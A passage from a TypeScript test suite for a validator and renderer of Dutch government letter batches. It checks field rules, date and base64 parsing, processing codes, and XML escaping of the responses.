        /unknown field 'Extra'/,
      ],
      [
        { BatchInformatie: header, Bericht: [{ BerichtInformatie: info(1) }], Extra: 1 },
        '$',
        /\$: unknown field 'Extra'/,
      ],
      [
        { Berichten: { BatchInformatie: header, Bericht: [{ BerichtInformatie: info(1) }] }, Extra: 1 },
        '$',
        /unknown field 'Extra'/,
      ],
    ];
    for (const [body, field, re] of cases) {
      const v = validateBatch(parseBerichtenJson(body), ctx());
      expect(v.ok).toBe(false);
      if (v.ok) continue;
      expect(v.problem).toBe('BATCH_HEADER_INVALID');
      expect(v.field).toBe(field);
      expect(v.detail).toMatch(re);
    }
  });

  it('not an object, or no Bericht list, is a parse error with the path', () => {
    const cases: [unknown, string, RegExp][] = [
      [null, '$', /a batch must be a JSON object, got null/],
      [[1], '$', /got an array/],
      ['x', '$', /got a string/],
      [{ Berichten: 5 }, '$.Berichten', /must be an object, got a number/],
      [{ Berichten: {} }, '$.Berichten.Bericht', /missing \(expected an array of letters\)/],
      [{ BatchInformatie: {} }, '$.Bericht', /missing/],
      [{ Bericht: 'x' }, '$.Bericht', /must be an array of letters, got a string/],
      [{ Bericht: 5 }, '$.Bericht', /got a number/],
    ];
    for (const [body, path, re] of cases) {
      const e = parseError(() => parseBerichtenJson(body));
      expect(e.path).toBe(path);
      expect(e.message).toMatch(re);
      expect(e.message.startsWith(path)).toBe(true);
    }
  });
});

// ---------------------------------------------------------------------------------------------
// Validation
// ---------------------------------------------------------------------------------------------

describe('validateBatch: batch level', () => {
  it('BATCH_SIZE for 0 and more than 1000 letters', () => {
    for (const n of [0, BATCH_LETTERS.max + 1]) {
      const v = validateBatch(
        {
          format: 'json',
          header: undefined,
          letters: Array.from({ length: n }, (_, k) => ({ seq: k, fields: {}, bijlagen: [], structureErrors: [] })),
        },
        ctx(),
      );
      expect(v).toMatchObject({
        ok: false,
        problem: 'BATCH_SIZE',
        field: 'Bericht',
        rule: `1..${BATCH_LETTERS.max} letters`,
      });
    }
    const max = validateBatch(
      parseBerichtenJson(berichtenJson(batch(Array.from({ length: BATCH_LETTERS.max }, (_, k) => letter(k))))),
      ctx(),
    );
    expect(max.ok).toBe(true);
  });

  it('header fields missing or malformed and not recoverable → BATCH_HEADER_INVALID with field and rule', () => {
    const h = { BatchID: BATCH_ID, AanmaakDatum: NOW_ISO, BerichtLeverancierID: OIN };
    const noRepeat = letter(1, { BatchID: undefined });
    const cases: [RawBatch, string, string][] = [
      [
        parseBerichtenJson({ BatchInformatie: { ...h, BatchID: 'nope' }, Bericht: [letter(1)] }),
        'BatchInformatie.BatchID',
        'GUID',
      ],
      [
        parseBerichtenJson({ BatchInformatie: { ...h, AanmaakDatum: '2026-13-01T00:00:00Z' }, Bericht: [letter(1)] }),
        'BatchInformatie.AanmaakDatum',
        'xs:dateTime',
      ],
      [
        parseBerichtenJson({ BatchInformatie: { ...h, BerichtLeverancierID: '' }, Bericht: [letter(1)] }),
        'BatchInformatie.BerichtLeverancierID',
        '1..25 characters',
      ],
      [
        parseBerichtenJson({ BatchInformatie: { ...h, BerichtLeverancierID: 'x'.repeat(26) }, Bericht: [letter(1)] }),
        'BatchInformatie.BerichtLeverancierID',
        '1..25 characters',
      ],
      [parseBerichtenJson({ Bericht: [noRepeat] }), 'BatchInformatie.BatchID', 'GUID'],
      [
        parseBerichtenJson({ BatchInformatie: { BatchID: BATCH_ID, BerichtLeverancierID: OIN }, Bericht: [letter(1)] }),
        'BatchInformatie.AanmaakDatum',
        'xs:dateTime',
      ],
      [
        parseBerichtenJson({ Bericht: [letter(1, { AanmaakDatum: 'gisteren', BerichtLeverancierID: OIN })] }),
        'BatchInformatie.AanmaakDatum',
        'xs:dateTime',
      ],
    ];
    for (const [raw, field, rule] of cases) {
      const v = validateBatch(raw, ctx());
      expect(v, field).toMatchObject({
        ok: false,
        problem: 'BATCH_HEADER_INVALID',
        field,
        rule,
        serviceCode: 'XmlValidatieTegenXsdValtNegatiefUit',
      });
      if (!v.ok) expect(v.detail).toContain(rule);
    }
  });

  it('without a header the fields come from the letters; a letter that disagrees fails alone', () => {
    const rep = { AanmaakDatum: NOW_ISO, BerichtLeverancierID: OIN };
    const raw = parseBerichtenJson({
      Bericht: [
        letter(1, { ...rep, BatchID: 'not-a-guid' }), // malformed: not used as the batch's, fails itself
        letter(2, rep),
        letter(3, { ...rep, BatchID: BATCH_ID.toUpperCase() }), // same GUID, other case: agrees
        letter(4, { ...rep, BatchID: guid(99) }),
        letter(5, { ...rep, AanmaakDatum: '2026-03-02T13:00:00+01:00' }), // same instant: agrees
        letter(6, { ...rep, AanmaakDatum: '2026-03-02T12:00:01Z' }),
        letter(7, { ...rep, BerichtLeverancierID: OTHER_OIN }),
        letter(8, { BatchID: undefined }), // repeats nothing: fine
      ],
    });
    const v = validateBatch(raw, ctx());
    expect(v.ok && v.header).toEqual({ batchId: BATCH_ID, aanmaakDatum: NOW, berichtLeverancierId: OIN });
    const out = ok(v);
    expect(out.map((o) => o.code)).toEqual([
      'XmlValidatieTegenXsdValtNegatiefUit',
      'Verwerkt',
      'Verwerkt',
      'XmlValidatieTegenXsdValtNegatiefUit',
      'Verwerkt',
      'XmlValidatieTegenXsdValtNegatiefUit',
      'XmlValidatieTegenXsdValtNegatiefUit',
      'Verwerkt',
    ]);
    expect(out[3]?.toelichting).toMatch(
      /BerichtInformatie.BatchID: .* differs from the batch's BatchID .*rule: equal to BatchInformatie/,
    );
    expect(out[5]?.toelichting).toMatch(/BerichtInformatie.AanmaakDatum/);
    expect(out[6]?.toelichting).toMatch(/BerichtInformatie.BerichtLeverancierID/);
  });

  it('a header that lacks a field may take it from the letters; header and letters must agree', () => {
    const raw = parseBerichtenJson({
      BatchInformatie: { BatchID: BATCH_ID },
      Bericht: [letter(1, { AanmaakDatum: NOW_ISO, BerichtLeverancierID: OIN }), letter(2)],
    });
    expect(codes(validateBatch(raw, ctx()))).toEqual(['Verwerkt', 'Verwerkt']);
    const upper = viaXml(batch([letter(1)], { BatchID: BATCH_ID.toUpperCase() }));
    expect(upper.ok && upper.header.batchId).toBe(BATCH_ID); // lower-cased; the letter's repeated lower-case ID agrees
    expect(codes(upper)).toEqual(['Verwerkt']);
  });

  it('AanmaakDatum in the future beyond the allowed skew refuses the batch', () => {
    const skew = 5 * 60_000;
    const within = viaXml(
      batch([letter(1)], { AanmaakDatum: new Date(NOW + skew).toISOString() }),
      ctx({ futureSkewMs: skew }),
    );
    expect(within.ok).toBe(true);
    const beyond = viaXml(
      batch([letter(1, { BatchID: undefined })], { AanmaakDatum: new Date(NOW + skew + 1).toISOString() }),
      ctx({ futureSkewMs: skew }),
    );
    expect(beyond).toMatchObject({
      ok: false,
      problem: 'BATCH_HEADER_INVALID',
      field: 'BatchInformatie.AanmaakDatum',
      serviceCode: 'XmlValidatieTegenXsdValtNegatiefUit',
    });
  });
});

describe('validateBatch: per letter', () => {
  it('Verwerkt carries the validated letter: GUIDs lower-cased, dates as epoch ms, attachments decoded', () => {
    const upperId = guid(1).toUpperCase().replace('0000-4000-8000', 'ABCD-4000-8000');
    const o = one(
      letter(
        1,
        {
          BerichtID: upperId,
          PublicatieDatum: '2026-03-03T10:00:00+02:00',
          EindDatumHandelingsTermijn: '2026-04-01T00:00:00',
        },
        [{ Volgorde: '02' }, { Volgorde: '1', Omschrijving: 'Tweede' }],
      ),
    );
    expect(o.code).toBe('Verwerkt');
    expect(o.toelichting).toBe('');
    expect(o.berichtId).toBe(upperId); // as sent
    const l = o.letter;
    expect(l?.berichtId).toBe(upperId.toLowerCase());
    expect(l?.publicatieDatum).toBe(Date.UTC(2026, 2, 3, 8));
    expect(l?.eindDatumHandelingsTermijn).toBe(Date.UTC(2026, 3, 1)); // no zone: UTC
    expect(l?.bsn).toBe(RECIPIENTS[1]);
    expect(l?.onderwerp).toBe('Brief 1');
    expect(l?.berichtTekst).toBe('Geachte heer,\\r\\nDit is een brief.');
    expect(l?.referentie).toBe('REF-1');
    expect(l?.bijlagen.map((b) => [b.volgorde, b.omschrijving, b.content.length])).toEqual([
      [2, 'Bijlage', 2000],
      [1, 'Tweede', 2000],
    ]);
    expect(l?.bijlagen[0]?.content.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    const none = one(letter(2, { PublicatieDatum: undefined, Referentie: undefined }));
    expect(none.letter?.publicatieDatum).toBeUndefined();
    expect(none.letter?.referentie).toBeUndefined();
    expect(none.letter?.bijlagen).toEqual([]);
  });

  const xsdCases: [string, Info, Partial<Record<keyof BijlageInput, string | undefined>>[] | undefined, RegExp][] = [
    [
      'BerichtID missing',
      { BerichtID: undefined },
      undefined,
      /BerichtInformatie.BerichtID: required element is missing \(rule: GUID\)/,
    ],
    ['BerichtID not a GUID', { BerichtID: '12345' }, undefined, /BerichtID: '12345' is not a GUID \(rule: GUID\)/],
    ['BerichtID with braces', { BerichtID: `{${guid(1)}}` }, undefined, /rule: GUID/],
    [
      'BerichtType empty',
      { BerichtType: '' },
      undefined,
      /BerichtInformatie.BerichtType: has 0 characters \(rule: 1..8 characters\)/,
    ],
    [
      'BerichtType too long',
      { BerichtType: 'X'.repeat(BERICHTTYPE_CHARS.max + 1) },
      undefined,
      /BerichtType: has 9 characters/,
    ],
    ['BerichtType missing', { BerichtType: undefined }, undefined, /BerichtType: required element is missing/],
    [
      'Onderwerp empty',
      { Onderwerp: '' },
      undefined,
      /BerichtInformatie.Onderwerp: has 0 characters \(rule: 1..50 characters\)/,
    ],
    [
      'Onderwerp too long',
      { Onderwerp: 'o'.repeat(ONDERWERP_CHARS.max + 1) },
      undefined,
      /Onderwerp: has 51 characters/,
    ],
    [
      'BerichtTekst too long',
      { BerichtTekst: 't'.repeat(BERICHTTEKST_CHARS.max + 1) },
      undefined,
      /BerichtTekst: has 4001 characters \(rule: at most 4000 characters\)/,
    ],
    ['BerichtTekst missing', { BerichtTekst: undefined }, undefined, /BerichtTekst: required element is missing/],
    [
      'Referentie too long',
      { Referentie: 'r'.repeat(REFERENTIE_CHARS.max + 1) },
      undefined,
      /Referentie: has 26 characters \(rule: at most 25 characters\)/,
    ],
    [
      'GebruikerID missing',
      { GebruikerID: undefined },
      undefined,
      /GebruikerID: required element is missing \(rule: 9 digits\)/,
    ],
    [
      'GebruikerID 8 digits',
      { GebruikerID: '12345678' },
      undefined,
      /GebruikerID: '12345678' is not 9 digits \(rule: 9 digits\)/,
    ],
    ['GebruikerID letters', { GebruikerID: '12345678X' }, undefined, /rule: 9 digits/],
    [
      'GebruikerID fails the elfproef',
      { GebruikerID: '123456789' },
      undefined,
      /GebruikerID: '123456789' is not a valid BSN \(rule: elfproef\)/,
    ],
    [
      'SoortGebruiker other',
      { SoortGebruiker: 'Bedrijf' },
      undefined,
      /SoortGebruiker: 'Bedrijf' is not allowed \(rule: 'Burger'\)/,
    ],
    ['SoortGebruiker missing', { SoortGebruiker: undefined }, undefined, /SoortGebruiker: required element is missing/],
    [
      'PublicatieDatum invalid',
      { PublicatieDatum: '2026-02-30T00:00:00Z' },
      undefined,
      /PublicatieDatum: .* is not an xs:dateTime \(rule: xs:dateTime\)/,
    ],
    [
      'EindDatumHandelingsTermijn invalid',
      { EindDatumHandelingsTermijn: '1 april' },
      undefined,
      /EindDatumHandelingsTermijn: .*\(rule: xs:dateTime\)/,
    ],
    ['three Bijlagen', {}, [{}, {}, {}], /Bijlagen: 3 Bijlage elements \(rule: at most 2 Bijlage\)/],
    [
      'Inhoud missing',
      {},
      [{ Inhoud: undefined }],
      /Bijlage\[0\].Inhoud: required content is missing \(rule: base64\)/,
    ],
    ['Inhoud empty', {}, [{}, { Inhoud: '  ' }], /Bijlage\[1\].Inhoud: required content is missing/],
    ['Inhoud not base64', {}, [{ Inhoud: 'JVBERi0*' }], /Bijlage\[0\].Inhoud: is not valid base64 \(rule: base64\)/],
    ['Inhoud bad padding', {}, [{ Inhoud: 'JVBERi0' }], /rule: base64/],
    ['BijlageType pdf', {}, [{ BijlageType: 'pdf' }], /Bijlage\[0\].BijlageType: 'pdf' is not allowed \(rule: 'Pdf'\)/],
    ['BijlageType missing', {}, [{ BijlageType: undefined }], /BijlageType: required element is missing/],
    [
      'Omschrijving too long',
      {},
      [{ Omschrijving: 'x'.repeat(OMSCHRIJVING_CHARS.max + 1) }],
      /Bijlage\[0\].Omschrijving: has 129 characters \(rule: at most 128 characters\)/,
    ],
    ['Omschrijving missing', {}, [{ Omschrijving: undefined }], /Omschrijving: required element is missing/],
    [
      'Volgorde zero',
      {},
      [{ Volgorde: '0' }],
      /Bijlage\[0\].Volgorde: '0' is not a positive integer \(rule: xs:positiveInteger\)/,
    ],
    ['Volgorde negative', {}, [{ Volgorde: '-1' }], /rule: xs:positiveInteger/],
    ['Volgorde decimal', {}, [{ Volgorde: '1.0' }], /rule: xs:positiveInteger/],
    ['Volgorde missing', {}, [{ Volgorde: undefined }], /Volgorde: required element is missing/],
    [
      'Volgorde repeated',
      {},
      [{ Volgorde: '1' }, { Volgorde: '01' }],
      /Bijlage\[1\].Volgorde: 1 is used by an earlier Bijlage of this letter \(rule: unique within the letter\)/,
    ],
    [
      'not a PDF',
      {},
      [{ Inhoud: Buffer.from('GIF89a......').toString('base64') }],
      /Bijlage\[0\].Inhoud: decoded content does not start with '%PDF-' \(rule: PDF\)/,
    ],
    [
      'BatchID disagrees',
      { BatchID: guid(5) },
      undefined,
      /BerichtInformatie.BatchID: .*differs.*\(rule: equal to BatchInformatie\)/,
    ],
    [
      'AanmaakDatum disagrees',
      { AanmaakDatum: '2026-03-01T00:00:00Z' },
      undefined,
      /BerichtInformatie.AanmaakDatum: .*differs/,
    ],
    [
      'BerichtLeverancierID disagrees',
      { BerichtLeverancierID: OTHER_OIN },
      undefined,
      /BerichtInformatie.BerichtLeverancierID: .*differs/,
    ],
  ];
  it.each(xsdCases)('XmlValidatieTegenXsdValtNegatiefUit: %s', (_name, over, bijlagen, re) => {
    const o = one(letter(1, over, bijlagen));
    expect(o.code).toBe('XmlValidatieTegenXsdValtNegatiefUit');
    expect(o.toelichting).toMatch(re);
  });

  it('accepts the boundaries: lengths at their maximum (counted in characters), 2 Bijlagen, loose whitespace in typed values', () => {
    const emoji = '😀'.repeat(ONDERWERP_CHARS.max); // 50 characters, 100 UTF-16 units
    const o = one(
      letter(
        1,
        {
          BerichtType: 'ABCDEFGH',
          Onderwerp: emoji,
          BerichtTekst: 't'.repeat(BERICHTTEKST_CHARS.max),
          Referentie: 'r'.repeat(REFERENTIE_CHARS.max),
          PublicatieDatum: ' 2026-03-02T12:00:00.123456Z ',
        },
        [
          {
            Omschrijving: 'o'.repeat(OMSCHRIJVING_CHARS.max),
            Volgorde: ' +01 ',
            Inhoud: PDF.replace(/(.{76})/g, '$1\n'),
          },
          {},
        ],
      ),
      ctx({ berichtTypes: new Set(['ABCDEFGH']) }),
    );
    expect(o.code).toBe('Verwerkt');
    expect(o.letter?.publicatieDatum).toBe(NOW + 123);
    expect(o.letter?.bijlagen).toHaveLength(BIJLAGEN_PER_LETTER.max);
    expect(o.letter?.bijlagen[0]?.volgorde).toBe(1);
  });

  it('OinInCPAKomtNietOvereenMetOinInBericht when the CPA OIN differs from BerichtLeverancierID', () => {
    const o = one(letter(1), ctx({ headerOin: OTHER_OIN }));
    expect(o.code).toBe('OinInCPAKomtNietOvereenMetOinInBericht');
    expect(o.toelichting).toMatch(/BatchInformatie.BerichtLeverancierID: .*rule: equal to the OIN in the CPA/);
  });

  it('AanmaakDatumLigtTeVerInHetVerleden beyond 13 days; exactly 13 days is accepted', () => {
    const max = AANMAAKDATUM_MAX_AGE_DAYS.max * DAY;
    const edge = one(letter(1, { PublicatieDatum: undefined }), ctx(), {
      AanmaakDatum: new Date(NOW - max).toISOString(),
    });
    expect(edge.code).toBe('Verwerkt');
    const old = one(letter(1, { PublicatieDatum: undefined, BatchID: undefined }), ctx(), {
      AanmaakDatum: new Date(NOW - max - 1).toISOString(),
    });
    expect(old.code).toBe('AanmaakDatumLigtTeVerInHetVerleden');
    expect(old.toelichting).toMatch(/BatchInformatie.AanmaakDatum: .*rule: at most 13 days in the past/);
  });

  it('PublicatieDatumLigtTeVerInDeToekomst beyond 13 days after AanmaakDatum; exactly 13 days is accepted', () => {
    const max = PUBLICATIEDATUM_MAX_AHEAD_DAYS.max * DAY;
    expect(one(letter(1, { PublicatieDatum: new Date(NOW + max).toISOString() })).code).toBe('Verwerkt');
    const o = one(letter(1, { PublicatieDatum: new Date(NOW + max + 1).toISOString() }));
    expect(o.code).toBe('PublicatieDatumLigtTeVerInDeToekomst');
    expect(o.toelichting).toMatch(/BerichtInformatie.PublicatieDatum: .*rule: at most 13 days after AanmaakDatum/);
  });

  it('BerichtTypeNietOndersteund for a type not configured for the afnemer (case-sensitive)', () => {
    const o = one(letter(1, { BerichtType: 'vaib' }));
    expect(o.code).toBe('BerichtTypeNietOndersteund');
    expect(o.toelichting).toMatch(
      /BerichtInformatie.BerichtType: 'vaib'.*its BerichtTypes: VAIB, AANSLAG.*rule: one of VAIB, AANSLAG/,
    );
  });

  it('BerichtBestaatAl for a BerichtID repeated in the batch (case-insensitive), even after a rejected letter', () => {
    const out = ok(
      viaXml(
        batch([
          letter(1),
          letter(2),
          letter(3, { BerichtID: guid(1).toUpperCase() }),
          letter(4, { BerichtID: guid(2) }),
          letter(5, { BerichtType: 'ONBEKEND', BerichtID: guid(50) }),
          letter(6, { BerichtID: guid(50) }),
        ]),
      ),
    );
    expect(out.map((o) => o.code)).toEqual([
      'Verwerkt',
      'Verwerkt',
      'BerichtBestaatAl',
      'BerichtBestaatAl',
      'BerichtTypeNietOndersteund',
      'BerichtBestaatAl',
    ]);
    expect(out[2]?.toelichting).toMatch(
      /BerichtInformatie.BerichtID: .* occurs earlier in this batch \(rule: unique BerichtID\)/,
    );
  });

  it('BijlageTeGroot when the decoded attachments together exceed 500,000 bytes; exactly the limit is accepted', () => {
    const half = MAX_ATTACHMENT_BYTES.limit / 2;
    const at = minimalPdf(half).toString('base64');
    const over = minimalPdf(half + 1).toString('base64');
    expect(one(letter(1, {}, [{ Inhoud: at }, { Inhoud: at }])).code).toBe('Verwerkt');
    const o = one(letter(1, {}, [{ Inhoud: at }, { Inhoud: over }]));
    expect(o.code).toBe('BijlageTeGroot');
    expect(o.toelichting).toMatch(
      /Bijlagen: attachments total 500001 bytes \(rule: at most 500000 bytes together \(decoded\)\)/,
    );
  });

  it('NietActiefOfGeabonneerd for a burger without an active box or subscription', () => {
    const o = one(letter(1, { GebruikerID: NOT_SUBSCRIBED }));
    expect(o.code).toBe('NietActiefOfGeabonneerd');
    expect(o.toelichting).toMatch(/GebruikerID: .*rule: active and subscribed/);
  });

  it('applies the checks in order: the first failing one wins', () => {
    const old = new Date(NOW - (AANMAAKDATUM_MAX_AGE_DAYS.max + 1) * DAY).toISOString();
    const farPublication = new Date(NOW + (PUBLICATIEDATUM_MAX_AHEAD_DAYS.max + 1) * DAY).toISOString();
    const big = minimalPdf(MAX_ATTACHMENT_BYTES.limit + 1).toString('base64');
    // Each case fails its own check and every later one.
    const cases: [VerwerkingsCode, BerichtInput, Partial<ValidationContext>, Partial<BatchInput['BatchInformatie']>][] =
      [
        [
          'XmlValidatieTegenXsdValtNegatiefUit',
          letter(1, { GebruikerID: '123456789', PublicatieDatum: farPublication, BerichtType: 'X' }, [{ Inhoud: big }]),
          { headerOin: OTHER_OIN },
          { AanmaakDatum: old },
        ],
        [
          'OinInCPAKomtNietOvereenMetOinInBericht',
          letter(
            1,
            { GebruikerID: NOT_SUBSCRIBED, PublicatieDatum: farPublication, BerichtType: 'X', BatchID: undefined },
            [{ Inhoud: big }],
          ),
          { headerOin: OTHER_OIN },
          { AanmaakDatum: old },
        ],
        [
          'AanmaakDatumLigtTeVerInHetVerleden',
          letter(
            1,
            { GebruikerID: NOT_SUBSCRIBED, PublicatieDatum: farPublication, BerichtType: 'X', BatchID: undefined },
            [{ Inhoud: big }],
          ),
          {},
          { AanmaakDatum: old },
        ],
        [
          'PublicatieDatumLigtTeVerInDeToekomst',
          letter(1, { GebruikerID: NOT_SUBSCRIBED, PublicatieDatum: farPublication, BerichtType: 'X' }, [
            { Inhoud: big },
          ]),
          {},
          {},
        ],
        [
          'BerichtTypeNietOndersteund',
          letter(1, { GebruikerID: NOT_SUBSCRIBED, BerichtType: 'X' }, [{ Inhoud: big }]),
          {},
          {},
        ],
        ['BijlageTeGroot', letter(1, { GebruikerID: NOT_SUBSCRIBED }, [{ Inhoud: big }]), {}, {}],
        ['NietActiefOfGeabonneerd', letter(1, { GebruikerID: NOT_SUBSCRIBED }), {}, {}],
      ];
    for (const [code, l, c, h] of cases) expect(one(l, ctx(c), h).code, code).toBe(code);
    // Duplicate comes before BijlageTeGroot and after BerichtType.
    const dupBig = ok(
      viaXml(batch([letter(1), letter(2, { BerichtID: guid(1), GebruikerID: NOT_SUBSCRIBED }, [{ Inhoud: big }])])),
    );
    expect(dupBig.map((o) => o.code)).toEqual(['Verwerkt', 'BerichtBestaatAl']);
    const dupType = ok(viaXml(batch([letter(1), letter(2, { BerichtID: guid(1), BerichtType: 'X' })])));
    expect(dupType.map((o) => o.code)).toEqual(['Verwerkt', 'BerichtTypeNietOndersteund']);
  });

  it('reaches every VerwerkingsCode except the commit-time TechnischProbleem', () => {
    const reached = new Set<VerwerkingsCode>();
    const old = new Date(NOW - 20 * DAY).toISOString();
    for (const o of ok(
      viaXml(
        batch([
          letter(1),
          letter(1),
          letter(2, { BerichtType: 'X' }),
          letter(3, { GebruikerID: NOT_SUBSCRIBED }),
          letter(4, { PublicatieDatum: new Date(NOW + 20 * DAY).toISOString() }),
          letter(5, { Onderwerp: '' }),
          letter(6, {}, [{ Inhoud: minimalPdf(600_000).toString('base64') }]),
        ]),
      ),
    ))
      reached.add(o.code);
    reached.add(one(letter(1), ctx({ headerOin: OTHER_OIN })).code);
    reached.add(one(letter(1, { BatchID: undefined, PublicatieDatum: undefined }), ctx(), { AanmaakDatum: old }).code);
    expect([...reached].sort()).toEqual(VERWERKINGS_CODES.filter((c) => c !== 'TechnischProbleem').sort());
  });
});

describe('lexical helpers', () => {
  it('parseDateTime: xs:dateTime with Z, offsets, no zone (UTC), fractions; rejects invalid dates', () => {
    expect(parseDateTime('2026-03-02T12:00:00Z')).toBe(NOW);
    expect(parseDateTime('2026-03-02T12:00:00')).toBe(NOW);
    expect(parseDateTime('2026-03-02T14:30:00+02:30')).toBe(NOW);
    expect(parseDateTime('2026-03-02T09:00:00-03:00')).toBe(NOW);
    expect(parseDateTime('2026-03-02T12:00:00.5Z')).toBe(NOW + 500);
    expect(parseDateTime('2026-03-02T12:00:00.0019Z')).toBe(NOW + 1);
    expect(parseDateTime('2026-03-01T24:00:00Z')).toBe(Date.UTC(2026, 2, 2));
    expect(parseDateTime('2024-02-29T00:00:00Z')).toBe(Date.UTC(2024, 1, 29));
    expect(parseDateTime('0050-01-01T00:00:00Z')).toBe(new Date('0050-01-01T00:00:00Z').getTime());
    for (const bad of [
      '2026-03-02',
      '2026-03-02 12:00:00Z',
      '2026-3-2T12:00:00Z',
      '2026-02-29T00:00:00Z',
      '2026-13-01T00:00:00Z',
      '2026-03-02T25:00:00Z',
      '2026-03-02T24:00:01Z',
      '2026-03-02T12:60:00Z',
      '2026-03-02T12:00:60Z',
      '2026-03-02T12:00:00+15:00',
      '2026-03-02T12:00:00+01:60',
      '0000-01-01T00:00:00Z',
      '2026-03-02T12:00:00z',
      '',
      'morgen',
    ]) {
      expect(parseDateTime(bad), bad).toBeUndefined();
    }
  });
  it('decodeBase64 and isGuid', () => {
    expect(decodeBase64('JVBERi0=')?.toString('latin1')).toBe('%PDF-');
    expect(decodeBase64('JVBE\r\nRi0=')?.toString('latin1')).toBe('%PDF-');
    expect(decodeBase64('')?.length).toBe(0);
    for (const bad of ['JVBERi0', 'JVB=ERi0', '****', 'A===']) expect(decodeBase64(bad), bad).toBeUndefined();
    expect(isGuid(guid(1))).toBe(true);
    expect(isGuid(guid(1).toUpperCase())).toBe(true);
    expect(isGuid(guid(1).replaceAll('-', ''))).toBe(false);
  });
});

// ---------------------------------------------------------------------------------------------
// Rendering
// ---------------------------------------------------------------------------------------------

function child(el: XmlElement | undefined, local: string): XmlElement | undefined {
  return el?.children.find((c) => c.local === local);
}

describe('render: BerichtVerwerkResponse', () => {
  const response: VerwerkResponse = {
    berichtLeverancierCode: OIN,
    batchId: BATCH_ID,
    datumOntvangen: NOW,
    datumVerwerkt: NOW + 2000,
    letters: (
      [
        ['Verwerkt', ''],
        ['Verwerkt', ''],
        ['NietActiefOfGeabonneerd', 'GebruikerID: x'],
        ['TechnischProbleem', 'retry'],
        ['BerichtTypeNietOndersteund', 'BerichtType: x'],
        ['PublicatieDatumLigtTeVerInDeToekomst', 'p'],
        ['AanmaakDatumLigtTeVerInHetVerleden', 'a'],
        ['XmlValidatieTegenXsdValtNegatiefUit', 'Onderwerp -- bad --> <x> & "q"-'],
        ['BijlageTeGroot', 'b'],
        ['BerichtBestaatAl', 'd'],
      ] as [VerwerkingsCode, string][]
    ).map(([code, toelichting], k) => ({
      berichtId: k === 7 ? '<&>' : guid(k),
      berichtType: 'VAIB',
      code,
      stadium: stadiumOf(code),
      toelichting,
    })),
  };

  it('renders the real structure: root in the batch namespace, unqualified BatchInformatie children, Bericht in the resultaat namespace', () => {
    const xml = renderVerwerkResponseXml(response);
    const root = scanXml(xml);
    expect([root.ns, root.local]).toEqual([NS_BATCH, 'BerichtVerwerkResponse']);
    const info = child(root, 'BatchInformatie');
    expect(info?.ns).toBe('');
    expect(info?.children.map((c) => [c.ns, c.local, c.text])).toEqual([
      ['', 'BerichtLeverancierCode', OIN],
      ['', 'BatchID', BATCH_ID],
      ['', 'TotaalAantalOntvangenBerichten', '10'],
      ['', 'AantalBerichtenSuccesvolVerwerkt', '2'],
      ['', 'AantalBerichtenGeenActieveBoxOfGeabonneertOpLeverancier', '1'],
      ['', 'AantalBerichtenMetTechnischProbleem', '1'],
      ['', 'AantalBerichtenBerichtTypeNietCorrect', '1'],
      ['', 'AantalBerichtenPublicatieDatumNietCorrect', '1'],
      ['', 'AantalBerichtenAanmaakDatumNietCorrect', '1'],
      ['', 'DatumOntvangen', '2026-03-02T12:00:00.000Z'],
      ['', 'DatumVerwerkt', '2026-03-02T12:00:02.000Z'],
    ]);
    const berichten = child(root, 'Berichten');
    expect(berichten?.ns).toBe('');
    expect(berichten?.children).toHaveLength(10);
    for (const b of berichten?.children ?? []) {
      expect([b.ns, b.local]).toEqual([NS_RESULTAAT, 'Bericht']);
      expect(b.children.map((c) => [c.ns, c.local])).toEqual([
        ['', 'BerichtID'],
        ['', 'BerichtType'],
        ['', 'VerwerkingsCode'],
        ['', 'Stadium'],
      ]);
    }
    const bad = berichten?.children[7];
    expect(child(bad, 'BerichtID')?.text).toBe('<&>'); // escaped and read back
    expect(child(bad, 'VerwerkingsCode')?.text).toBe('XmlValidatieTegenXsdValtNegatiefUit');
    expect(child(bad, 'Stadium')?.text).toBe('ValidatieBerichtType');
    expect(xml).toContain('<!-- Toelichting: Onderwerp - - bad - -> <x> & "q"-  -->');
    expect(xml).not.toContain('<!-- Toelichting:  -->');
    expect(XMLValidator.validate(xml)).toBe(true);
  });

  it('renders the same as JSON with Toelichting', () => {
    const j = verwerkResponseJson(response);
    expect(j.BerichtVerwerkResponse.BatchInformatie).toEqual({
      BerichtLeverancierCode: OIN,
      BatchID: BATCH_ID,
      TotaalAantalOntvangenBerichten: 10,
      AantalBerichtenSuccesvolVerwerkt: 2,
      AantalBerichtenGeenActieveBoxOfGeabonneertOpLeverancier: 1,
      AantalBerichtenMetTechnischProbleem: 1,
      AantalBerichtenBerichtTypeNietCorrect: 1,
      AantalBerichtenPublicatieDatumNietCorrect: 1,
      AantalBerichtenAanmaakDatumNietCorrect: 1,
      DatumOntvangen: '2026-03-02T12:00:00.000Z',
      DatumVerwerkt: '2026-03-02T12:00:02.000Z',
    });
    expect(j.BerichtVerwerkResponse.Berichten.Bericht[2]).toEqual({
      BerichtID: guid(2),
      BerichtType: 'VAIB',
      VerwerkingsCode: 'NietActiefOfGeabonneerd',
      Stadium: 'ValidatieGebruiker',
      Toelichting: 'GebruikerID: x',
    });
  });

  it('escapeXmlText escapes markup, keeps CR, replaces characters XML cannot carry', () => {
    expect(escapeXmlText('a<b>&c\r')).toBe('a&lt;b&gt;&amp;c&#13;');
    expect(escapeXmlText('x\u0000y\uD800')).toBe('x\uFFFDy\uFFFD');
    expect(escapeXmlText('plain')).toBe('plain');
  });

  it('escapeXmlAttr keeps quotes, tabs and line breaks of an attribute value through a real parser', () => {
    const value = 'a "quoted" \'x\' <b> & c\n\td\r';
    const doc = `<r a="${escapeXmlAttr(value)}" b='${escapeXmlAttr(value)}'/>`;
    expect(XMLValidator.validate(doc)).toBe(true);
    const parsed = new XMLParser({
      ignoreAttributes: false,
      attributeNamePrefix: '',
      processEntities: true,
      htmlEntities: true,
    }).parse(doc) as { r: { a: string; b: string } };
    expect(parsed.r.a).toBe(value.replace(/\r/g, '\r'));
    expect(parsed.r.b).toBe(parsed.r.a);
  });

  it('JUnit with a quote in a name or message is still well-formed XML (text escaping in attributes was a latent bug)', () => {
    const xml = junitXml(
      'my "scenario"',
      [
        {
          normId: 'x.y',
          title: 'T',
          limit: 1,
          unit: 'ms',
          measured: 2,
          margin: -1,
          status: 'fail',
          source: 's "q"',
          citation: 'c',
        },
      ],
      1,
    );
    expect(XMLValidator.validate(xml)).toBe(true);
  });
});

describe('render: Berichten request', () => {
  it("follows Logius' example: batch namespace for Berichten/BatchInformatie, bericht namespace per Bericht, BatchID first, Bijlagen wrapper", () => {
    const root = scanXml(renderBerichtenXml(batch([letter(1, {}, [{}])])));
